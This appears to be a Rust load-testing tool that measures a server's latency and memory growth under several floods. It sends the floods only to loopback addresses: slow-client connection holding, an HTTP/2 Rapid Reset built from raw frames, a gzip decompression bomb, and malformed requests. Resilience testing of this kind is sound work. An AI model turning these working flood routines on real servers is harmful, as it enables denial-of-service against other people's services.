//! The attackers of the attack benchmark, and the good client beside them: one flood after another,
//! each for a few seconds, against a server on loopback. Prints one JSON object: what the good client
//! saw during each flood, and how far the server's memory grew.
//!
//! Every flood is bounded in connections and in time, and this process ends by itself.

#![expect(clippy::print_stdout, reason = "its output is its result")]

use anyhow::{Context as _, ensure};
use clap::Parser;
use model::{Clock as _, SystemClock};
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{ClientConfig, RootCertStore};
use serde_json::{Value, json};
use std::io::Write as _;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tokio_util::task::TaskTracker;

/// How often the server's memory is looked at.
const LOOK: Duration = Duration::from_millis(50);
/// How long the good client waits between two uploads.
const PAUSE: Duration = Duration::from_millis(20);
/// Connections that a flood makes at a time.
const AT_A_TIME: usize = 4;

#[derive(Debug, Parser)]
struct Options {
    /// The api plane
    #[arg(long)]
    api: SocketAddr,
    /// The collect plane
    #[arg(long)]
    collect: SocketAddr,
    /// Certificates to trust, PEM
    #[arg(long)]
    ca: PathBuf,
    /// The server's process
    #[arg(long)]
    pid: u32,
    /// `ID:PASSCODE`
    #[arg(long)]
    account: String,
    /// Seconds of each flood
    #[arg(long, default_value_t = 5, value_parser = clap::value_parser!(u64).range(1..=60))]
    seconds: u64,
    /// Slow connections
    #[arg(long, default_value_t = 1_000, value_parser = clap::value_parser!(u64).range(1..=2_000))]
    slow: u64,
}

#[derive(Debug, Clone)]
struct Target {
    api: SocketAddr,
    collect: SocketAddr,
    account: (String, String),
    roots: Arc<RootCertStore>,
    slow: u64,
    /// Made before the clock starts: packing it takes seconds.
    bomb: Arc<Vec<u8>>,
}

#[derive(Debug, Clone, Copy)]
enum Flood {
    None,
    Slow,
    RapidReset,
    Bombs,
    Garbage,
}

impl Flood {
    const ALL: [Self; 5] = [
        Self::None,
        Self::Slow,
        Self::RapidReset,
        Self::Bombs,
        Self::Garbage,
    ];

    const fn as_str(self) -> &'static str {
        match self {
            Self::None => "none",
            Self::Slow => "slow_clients",
            Self::RapidReset => "rapid_reset",
            Self::Bombs => "bombs",
            Self::Garbage => "garbage",
        }
    }
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let options = Options::parse();
    ensure!(
        options.api.ip().is_loopback() && options.collect.ip().is_loopback(),
        "attacks go to a loopback address and nowhere else"
    );
    let (id, passcode) = options
        .account
        .split_once(':')
        .context("an account is ID:PASSCODE")?;
    let mut roots = RootCertStore::empty();
    for certificate in CertificateDer::pem_file_iter(&options.ca)? {
        roots.add(certificate?)?;
    }
    let target = Target {
        api: options.api,
        collect: options.collect,
        account: (id.to_owned(), passcode.to_owned()),
        roots: Arc::new(roots),
        slow: options.slow,
        bomb: Arc::new(bomb()),
    };
    let bundle = reqwest::Certificate::from_pem_bundle(&std::fs::read(&options.ca)?)?;
    let good = Good {
        http: reqwest::Client::builder().tls_certs_only(bundle).build()?,
        url: format!("https://{}/1/upload", options.api),
        account: target.account.clone(),
        clock: Arc::new(SystemClock::new()),
    };
    // What the first requests load stays loaded.
    good.uploads(Duration::from_secs(1)).await?;
    let mut floods = Vec::new();
    for flood in Flood::ALL {
        floods.push(run(flood, &target, &good, &options).await?);
    }
    let worst = |field: &str| {
        floods
            .iter()
            .filter_map(|it| it.get(field).and_then(Value::as_f64))
            .fold(0.0, f64::max)
    };
    let summary = json!({
        "p99_ms": worst("p99_ms"),
        "memory_growth_bytes": worst("memory_growth_bytes"),
        "seconds": options.seconds,
        "slow_connections": options.slow,
        "floods": floods,
    });
    println!("{summary}");
    Ok(())
}

/// One flood, and the good client meanwhile.
async fn run(
    flood: Flood,
    target: &Target,
    good: &Good,
    options: &Options,
) -> anyhow::Result<Value> {
    let time = Duration::from_secs(options.seconds);
    let before = memory_bytes(options.pid)?;
    let attackers = TaskTracker::new();
    let stop = tokio_util::sync::CancellationToken::new();
    let workers = match flood {
        Flood::None => 0,
        Flood::Slow => 1,
        Flood::RapidReset | Flood::Bombs | Flood::Garbage => AT_A_TIME,
    };
    for _ in 0..workers {
        let (target, stop) = (target.clone(), stop.clone());
        attackers.spawn(async move {
            stop.run_until_cancelled(attack(flood, &target)).await;
        });
    }
    attackers.close();
    let watch = async {
        let mut most = before;
        loop {
            tokio::time::sleep(LOOK).await;
            most = memory_bytes(options.pid).unwrap_or(most).max(most);
            if stop.is_cancelled() {
                return most;
            }
        }
    };
    let serve = async {
        let seen = good.uploads(time).await;
        stop.cancel();
        seen
    };
    let (most, seen) = tokio::join!(watch, serve);
    attackers.wait().await;
    let mut latencies = seen?;
    latencies.sort_unstable();
    let quantile = |share: usize| {
        let at = latencies.len() * share / 100;
        latencies.get(at).map_or(0.0, |it| it.as_secs_f64() * 1e3)
    };
    Ok(json!({
        "flood": flood.as_str(),
        "uploads": latencies.len(),
        "p50_ms": quantile(50),
        "p99_ms": quantile(99),
        "memory_growth_bytes": most.saturating_sub(before),
    }))
}

/// A client that means well.
#[derive(Debug)]
struct Good {
    http: reqwest::Client,
    url: String,
    account: (String, String),
    clock: Arc<SystemClock>,
}

impl Good {
    /// Uploads one event after another for that long; how long each took.
    async fn uploads(&self, time: Duration) -> anyhow::Result<Vec<Duration>> {
        let started = self.clock.monotonic();
        let mut latencies = Vec::new();
        while self.clock.monotonic().saturating_sub(started) < time {
            let sent = self.clock.monotonic();
            let request = self
                .http
                .post(&self.url)
                .header("X-CleverTap-Account-Id", &self.account.0)
                .header("X-CleverTap-Passcode", &self.account.1)
                .body(r#"{"d":[{"type":"event","identity":"good","evtName":"Good"}]}"#);
            let answer = request.send().await?.error_for_status();
            answer
                .context("a good client was not served")?
                .bytes()
                .await?;
            latencies.push(self.clock.monotonic().saturating_sub(sent));
            tokio::time::sleep(PAUSE).await;
        }
        Ok(latencies)
    }
}

/// Attacks until it is stopped. What fails is tried again: the server cuts connections.
async fn attack(flood: Flood, target: &Target) {
    match flood {
        Flood::None => {}
        Flood::Slow => slow(target).await,
        Flood::RapidReset => loop {
            drop(rapid_reset(target).await);
            tokio::task::yield_now().await;
        },
        Flood::Bombs => loop {
            drop(explode(target).await);
            tokio::task::yield_now().await;
        },
        Flood::Garbage => loop {
            drop(garbage(target).await);
            tokio::task::yield_now().await;
        },
    }
}

async fn connect(
    address: SocketAddr,
    target: &Target,
    protocol: &[u8],
) -> anyhow::Result<TlsStream<TcpStream>> {
    let mut config = ClientConfig::builder()
        .with_root_certificates(Arc::clone(&target.roots))
        .with_no_client_auth();
    config.alpn_protocols = vec![protocol.to_vec()];
    let tcp = TcpStream::connect(address).await?;
    let name = ServerName::try_from("localhost")?;
    Ok(TlsConnector::from(Arc::new(config))
        .connect(name, tcp)
        .await?)
}

/// Connections that begin a request and do not end it; a part of them does not even do that.
async fn slow(target: &Target) {
    let mut held = Vec::new();
    let mut plain = Vec::new();
    for number in 0..target.slow {
        if number % 2 == 0 {
            plain.push(TcpStream::connect(target.collect).await);
        } else if let Ok(mut tls) = connect(target.api, target, b"http/1.1").await {
            drop(tls.write_all(b"POST /1/upload HTTP/1.1\r\nHost: loc").await);
            held.push(tls);
        }
    }
    std::future::pending().await
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame: Vec<u8> = length.into_iter().skip(1).collect();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A request for `/x` of localhost, as literals of HPACK.
fn request(stream: u32) -> Vec<u8> {
    let fields = [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", "/x"),
    ];
    let mut block = Vec::new();
    for (name, value) in fields {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap_or(0));
            block.extend(text.as_bytes());
        }
    }
    frame(1, 5, stream, &block)
}

async fn http2(target: &Target) -> anyhow::Result<TlsStream<TcpStream>> {
    let mut tls = connect(target.collect, target, b"h2").await?;
    tls.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    tls.write_all(&frame(4, 0, 0, &[])).await?;
    Ok(tls)
}

async fn rapid_reset(target: &Target) -> anyhow::Result<()> {
    let mut tls = http2(target).await?;
    let mut stream = 1;
    loop {
        let mut bytes = Vec::new();
        for _ in 0..100 {
            bytes.extend(request(stream));
            bytes.extend(frame(3, 0, stream, &[0, 0, 0, 8]));
            stream += 2;
        }
        tls.write_all(&bytes).await?;
        tls.flush().await?;
    }
}

/// Ten million zeros to the kilobyte, over and over: 10 MiB that would unpack to 10 GiB.
fn bomb() -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..64 {
        // Writing to memory does not fail.
        drop(encoder.write_all(&vec![0; 1 << 20]));
    }
    encoder.finish().unwrap_or_default().repeat(160)
}

async fn explode(target: &Target) -> anyhow::Result<()> {
    let bomb = target.bomb.as_slice();
    let mut tls = connect(target.api, target, b"http/1.1").await?;
    let head = format!(
        "POST /1/upload HTTP/1.1\r\nHost: localhost\r\nX-CleverTap-Account-Id: {}\r\n\
         X-CleverTap-Passcode: {}\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
        target.account.0,
        target.account.1,
        bomb.len()
    );
    tls.write_all(head.as_bytes()).await?;
    tls.write_all(bomb).await?;
    tls.flush().await?;
    Ok(())
}

/// Unknown URLs, and what is not HTTP at all.
async fn garbage(target: &Target) -> anyhow::Result<()> {
    let mut tls = connect(target.collect, target, b"http/1.1").await?;
    tls.write_all(b"GET / HTTP/1.1\nHost: x\n\n\0\0\0").await?;
    let mut tls = http2(target).await?;
    let mut stream = 1;
    for _ in 0..100 {
        let mut bytes = Vec::new();
        for _ in 0..50 {
            bytes.extend(request(stream));
            stream += 2;
        }
        tls.write_all(&bytes).await?;
        tls.flush().await?;
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    Ok(())
}

/// Resident memory of a process.
fn memory_bytes(pid: u32) -> anyhow::Result<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status"))?;
    let line = status
        .lines()
        .find(|line| line.starts_with("VmRSS:"))
        .context("the kernel does not say how much memory is used")?;
    let kib: u64 = line
        .split_whitespace()
        .nth(1)
        .context("a number is missing")?
        .parse()?;
    Ok(kib * 1_024)
}
